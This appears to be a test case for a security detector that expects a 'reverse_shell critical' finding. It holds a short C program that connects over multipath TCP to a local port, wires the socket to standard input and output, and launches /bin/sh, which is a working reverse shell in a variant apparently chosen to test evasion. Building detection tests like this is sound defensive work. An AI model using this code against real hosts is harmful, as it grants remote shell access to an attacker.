# about: over multipath TCP
# expect: reverse_shell critical
# needs: python3 gcc
proven 4526 mptcp
cat >a.c <<'C'
#include <netinet/in.h>
#include <unistd.h>
int main(){int s=socket(AF_INET,SOCK_STREAM,262);struct sockaddr_in a={AF_INET,htons(4526)};a.sin_addr.s_addr=htonl(0x7f000001);if(s<0||connect(s,(void*)&a,sizeof a))return 1;
 for(int i=0;i<3;i++)dup2(s,i);execl("/bin/sh","sh",(char*)0);}
C
gcc -w -o a a.c
timeout 6 ./a
answered
